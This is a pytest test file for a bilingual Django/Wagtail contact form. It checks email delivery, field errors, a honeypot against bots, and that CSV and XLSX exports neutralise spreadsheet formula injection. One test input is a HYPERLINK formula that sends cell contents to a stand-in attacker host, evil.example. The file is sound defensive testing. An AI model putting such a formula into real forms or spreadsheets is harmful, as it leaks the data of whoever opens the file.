"""The contact form: both languages, sent to the coordination, errors next to the fields, bots ignored, safe exports."""

import csv
import io

import openpyxl
import pytest
from django.conf import settings
from django.core import mail
from django.urls import reverse
from wagtail.contrib.forms.models import FormSubmission

from ..html import elements


@pytest.mark.parametrize("language", ["fr", "en"])
def test_contact_page_shows_the_form(client, site_tree, language):
    response = client.get(getattr(site_tree, language).contact.url)

    assert response.status_code == 200
    assert elements(response.text, "form", method="post")
    assert elements(response.text, "input", name="nom")
    assert elements(response.text, "textarea", name="message")


def _contact_data(**changes):
    data = {"nom": "Marie Curieuse", "courriel": "marie@example.org", "message": "Bonjour, je voudrais adhérer."}
    data.update(changes)
    return data


@pytest.mark.parametrize("language", ["fr", "en"])
def test_contact_form_sends_the_message_to_the_coordination(client, site_tree, language):
    response = client.post(getattr(site_tree, language).contact.url, _contact_data())

    assert response.status_code == 200
    assert len(mail.outbox) == 1
    assert mail.outbox[0].to == [settings.COORDINATION_EMAIL]
    assert "Bonjour, je voudrais adhérer." in mail.outbox[0].body
    assert FormSubmission.objects.count() == 1
    assert "Merci pour votre message." in response.text


def test_contact_form_with_errors_shows_them_and_sends_nothing(client, site_tree):
    response = client.post(site_tree.fr.contact.url, _contact_data(courriel="pas-une-adresse", message=""))

    assert response.status_code == 200
    assert "Saisissez une adresse de courriel valide." in response.text  # Django's French message
    assert elements(response.text, "textarea", name="message", aria_invalid="true")
    assert elements(response.text, "input", name="courriel", aria_invalid="true")
    assert "Marie Curieuse" in response.text  # what was typed is kept
    assert mail.outbox == []
    assert FormSubmission.objects.count() == 0


def test_contact_form_honeypot_sends_and_stores_nothing(client, site_tree):
    response = client.post(site_tree.fr.contact.url, _contact_data(website_url="https://spam.example.com"))

    assert response.status_code == 200
    assert mail.outbox == []
    assert FormSubmission.objects.count() == 0


def _export(client, page, export_format):
    response = client.get(reverse("wagtailforms:list_submissions", args=[page.pk]), {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize(
    ("typed", "through_the_form"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', True),
        ("+33 6 12 34 56 78", True),
        ("-1+2", True),
        ("@SUM(A1)", True),
        # The form strips leading white space; a submission stored otherwise is neutralised too.
        ("\tTab", False),
        ("\rReturn", False),
    ],
)
def test_submissions_export_neutralises_spreadsheet_formulas(client, site_tree, coordinator, typed, through_the_form):
    """A visitor's message cannot run as a formula in the coordinators' spreadsheet program."""
    page = site_tree.fr.contact
    if through_the_form:
        client.post(page.url, _contact_data(nom=typed, message=typed))
    else:
        FormSubmission.objects.create(page=page, form_data=_contact_data(nom=typed, message=typed))
    assert FormSubmission.objects.count() == 1
    client.force_login(coordinator)

    header, line = list(csv.reader(io.StringIO(_export(client, page, "csv").decode())))
    assert line[header.index("Message")] == "'" + typed
    assert line[header.index("Nom")] == "'" + typed

    sheet = openpyxl.load_workbook(io.BytesIO(_export(client, page, "xlsx"))).active
    header, line = list(sheet.iter_rows(values_only=False))
    cell = line[[c.value for c in header].index("Message")]
    assert cell.data_type == "s"  # a text cell: XLSX files hold no formula from a visitor
    assert cell.value.splitlines() == typed.splitlines()  # XML turns a lone CR into LF
